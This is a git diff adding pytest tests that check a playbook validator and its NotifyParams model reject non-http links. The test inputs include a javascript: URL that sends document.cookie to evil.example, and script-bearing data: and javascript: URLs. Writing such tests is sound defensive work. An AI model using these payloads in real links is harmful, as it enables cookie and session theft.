@@ -15,9 +15,11 @@ from __future__ import annotations
 import textwrap
 from pathlib import Path
 
+import msgspec
 import pytest
 from click.testing import CliRunner
 
+from engine.actions.notify import NotifyParams
 from engine.cli import main
 
 
@@ -56,3 +58,28 @@ def test_a_link_with_a_literal_origin_passes(tmp_path: Path,
         _playbook("https://portal.azure.com/#resource{{ event.resource_id }}"))
     result = CliRunner().invoke(main, ["validate", "links.yaml"], catch_exceptions=False)
     assert (result.exit_code, result.stdout) == (0, "ok: 1 rule(s) in 1 file(s), 0 test(s)\n")
+
+
+@pytest.mark.parametrize("link", ["javascript:fetch('https://evil.example/'+document.cookie)",
+                                  "data:text/html,<script>alert(1)</script>", "https://",
+                                  "portal.azure.com/x"])
+def test_validate_refuses_a_literal_link_that_is_not_http(
+        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, link: str) -> None:
+    monkeypatch.chdir(tmp_path)
+    Path("links.yaml").write_text(_playbook(link.replace('"', "'")))
+    result = CliRunner().invoke(main, ["validate", "links.yaml"], catch_exceptions=False)
+    assert result.exit_code == 1
+    assert result.stderr.splitlines() == [
+        "links.yaml:7:59: parameter `link` of action `notify.webhook`: expected an http or "
+        "https URL with a host", "1 problem(s)"]
+
+
+def test_a_rendered_link_that_is_not_http_is_refused_by_the_parameters() -> None:
+    for link in ("javascript:alert(1)", "https:///nohost", "//evil.example/x"):
+        with pytest.raises(msgspec.ValidationError) as raised:
+            msgspec.convert({"text": "t", "channel": "c", "link": link}, NotifyParams)
+        assert str(raised.value) == (
+            f"link must be an http or https URL with a host, got {link!r}")
+    ok = msgspec.convert({"text": "t", "channel": "c", "link": "https://portal.azure.com/#x"},
+                         NotifyParams)
+    assert ok.link == "https://portal.azure.com/#x"
